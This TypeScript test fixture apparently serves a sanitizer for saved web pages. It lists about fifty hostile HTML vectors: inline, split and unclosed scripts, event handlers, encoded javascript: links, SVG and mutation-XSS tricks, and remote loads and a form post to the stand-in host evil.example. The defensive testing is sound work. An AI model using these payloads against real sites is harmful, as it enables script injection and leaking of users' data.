/**
 * Hostile saved-page markup, one vector a row. Every vector that becomes active reports itself:
 * a script or handler that runs requests `/pwned/NAME` on the page's own origin, and a remote
 * load goes to {@link EVIL} (a host that does not exist). The unit tests check the snapshot of
 * each row; the browser test opens the snapshot of all of them together.
 */

/** The host every remote load in the vectors points at. */
export const EVIL = "https://evil.example";

/** `fetch` of `/pwned/NAME`, as a script would send it. */
const pwn = (name: string): string => `fetch('/pwned/${name}')`;

/** [what the row tries, its markup]. */
export const HOSTILE_VECTORS: readonly (readonly [string, string])[] = [
  ["an inline script", `<script>document.title='pwned';window.__pwned=1;${pwn("script")}</script>`],
  ["an upper-case script", `<SCRIPT>${pwn("upper")}</SCRIPT>`],
  ["a remote script", `<script src="${EVIL}/a.js"></script>`],
  ["a module script", `<script type="module">${pwn("module")}</script>`],
  ["a script split by a nested tag", `<scr<script>ipt>${pwn("split")}</script>`],
  ["an onerror handler", `<img src="x" onerror="${pwn("onerror")}">`],
  ["a mixed-case handler", `<div OnMouseOver="${pwn("mouse")}" oNfOcUs="${pwn("focus")}" tabindex="0">hover</div>`],
  ["a javascript: link", `<a href="javascript:${pwn("js-link")}">plain</a>`],
  ["a mixed-case javascript: link", `<a href="JaVaScRiPt:${pwn("mixed")}">mixed</a>`],
  ["an entity-encoded javascript: link", `<a href="&#106;avascript:${pwn("entity")}">entity</a>`],
  ["a hex entity javascript: link", `<a href="&#x6A;&#x61;vascript:${pwn("hex")}">hex</a>`],
  ["a javascript: link with a tab and a newline inside", `<a href="java&#9;scr\nipt:${pwn("tab")}">tab</a>`],
  ["a javascript: link after spaces and a control", `<a href=" \u0001javascript:${pwn("space")}">space</a>`],
  ["a vbscript: link", `<a href="vbscript:msgbox(1)">vb</a>`],
  ["a data: HTML link", `<a href="data:text/html,<script>${pwn("data")}</script>">data</a>`],
  ["an SVG with a script", `<svg><script>${pwn("svg-script")}</script><circle r="1"/></svg>`],
  ["an SVG onload", `<svg onload="${pwn("svg-onload")}"><rect width="1" height="1"/></svg>`],
  ["an SVG javascript: link", `<svg><a xlink:href="javascript:${pwn("svg-link")}"><text>svg link</text></a></svg>`],
  ["an SVG use of a remote file", `<svg><use href="${EVIL}/sprite.svg#a"/><use xlink:href="${EVIL}/s.svg#b"/></svg>`],
  ["an SVG foreignObject", `<svg><foreignObject><iframe src="${EVIL}/fo"></iframe></foreignObject></svg>`],
  ["an SVG animation setting a link", `<svg><a><animate attributeName="href" to="javascript:${pwn("animate")}"/><text>x</text></a></svg>`],
  ["an SVG image", `<svg><image href="${EVIL}/svg-image.png"/></svg>`],
  ["an SVG fill from elsewhere", `<svg><rect fill="url(${EVIL}/paint.svg#p)" width="1" height="1"/></svg>`],
  ["a base", `<base href="${EVIL}/">`],
  ["a meta refresh", `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`],
  ["a meta set-cookie", `<meta http-equiv="Set-Cookie" content="a=b">`],
  [
    "a form",
    `<form action="${EVIL}/post" method="post"><input name="q" value="v" autofocus onfocus="${pwn("autofocus")}"><button formaction="${EVIL}/b">Send</button><textarea>typed</textarea><select><option>o</option></select></form>`,
  ],
  ["a stylesheet link", `<link rel="stylesheet" href="${EVIL}/s.css">`],
  [
    "preload, prefetch and preconnect links",
    `<link rel="preload" href="${EVIL}/p" as="image"><link rel="prefetch" href="${EVIL}/f"><link rel="dns-prefetch" href="${EVIL}"><link rel="preconnect" href="${EVIL}">`,
  ],
  ["an icon and a manifest", `<link rel="icon" href="${EVIL}/i.ico"><link rel="manifest" href="${EVIL}/m.json">`],
  ["a style with a remote background", `<style>body{color:#222;background:url(${EVIL}/bg.png)}</style>`],
  ["a style with an import and a font", `<style>@import "${EVIL}/i.css";@font-face{font-family:x;src:url(${EVIL}/f.woff)}</style>`],
  ["a style with an escaped url", `<style>p{background:u\\72 l(${EVIL}/esc.png)}</style>`],
  ["a style attribute with a remote image", `<p style="background-image:url('${EVIL}/attr.png')">styled</p>`],
  ["a style attribute with an image-set", `<p style="background:image-set('${EVIL}/set.png' 1x)">set</p>`],
  ["a remote image", `<img src="${EVIL}/img.png" alt="a photo">`],
  ["a srcset", `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" srcset="${EVIL}/1.png 1x, ${EVIL}/2.png 2x">`],
  ["a picture", `<picture><source srcset="${EVIL}/pic.webp" type="image/webp"><img src="${EVIL}/pic.jpg"></picture>`],
  [
    "a video with a poster and tracks",
    `<video poster="${EVIL}/poster.jpg" autoplay><source src="${EVIL}/v.mp4"><track src="${EVIL}/t.vtt"></video>`,
  ],
  ["an audio", `<audio src="${EVIL}/a.mp3" autoplay></audio>`],
  ["an iframe", `<iframe src="${EVIL}/frame"></iframe>`],
  ["an iframe with a srcdoc", `<iframe srcdoc="<script>${pwn("srcdoc")}</script>"></iframe>`],
  [
    "an object, an embed and an applet",
    `<object data="${EVIL}/o.swf"></object><embed src="${EVIL}/e.swf"><applet code="A.class"></applet>`,
  ],
  ["a link target and ping", `<a href="${EVIL}/story" target="_blank" ping="${EVIL}/ping">story</a>`],
  ["a noscript tracking pixel", `<noscript><img src="${EVIL}/pixel.gif"></noscript>`],
  ["a noscript attribute break-out", `<noscript><p title="</noscript><img src=x onerror=${pwn("noscript")}>"></p></noscript>`],
  ["a template", `<template><img src=x onerror="${pwn("template")}"></template>`],
  ["a math and style confusion", `<math><mtext><table><mglyph><style><img src=x onerror="${pwn("math")}">`],
  ["an unclosed script", `<script>${pwn("unclosed")}`],
];

/** Every vector in one page, as a browser's "Save page as" would have it. */
export const HOSTILE_PAGE = `<!doctype html>
<html><head><meta charset="utf-8"><title>Hostile page</title></head>
<body><h1>Hostile headline</h1><p>Officials said on Tuesday that the talks would resume.</p>
${HOSTILE_VECTORS.map(([, html]) => html).join("\n")}
</body></html>`;
